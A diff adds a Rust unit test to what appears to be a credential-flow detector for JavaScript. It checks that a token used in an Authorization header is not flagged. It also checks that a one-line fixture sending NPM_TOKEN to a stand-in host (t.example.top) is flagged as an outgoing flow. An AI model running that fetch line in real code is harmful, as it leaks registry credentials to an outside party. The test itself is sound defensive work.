@@ -1325,3 +1325,18 @@ fn a_telemetry_switch_is_read_from_what_users_set() {
     assert_eq!(s[1].property, "telemetryDisabled");
     assert_eq!(s[1].default, Some(false));
 }
+
+#[test]
+fn a_token_tested_before_its_header_is_not_sent_by_the_test() {
+    // claude-code: `...(k && { Authorization: `Bearer ${k}` })` in a request's headers.
+    let f = run(r#"function call(url, env) {
+          const k = env.ANTHROPIC_AUTH_TOKEN;
+          return fetch(url, { headers: { "content-type": "json", ...(k && { Authorization: `Bearer ${k}` }) } });
+        }
+        module.exports = call;"#);
+    assert!(f.flows.is_empty(), "{:#?}", f.flows);
+    assert_eq!(f.credential_uses.len(), 1, "{:#?}", f.credential_uses);
+    // `a || b` still carries both.
+    let f = run(r#"fetch("https://t.example.top/c", { body: process.env.NPM_TOKEN || "none" });"#);
+    assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
+}
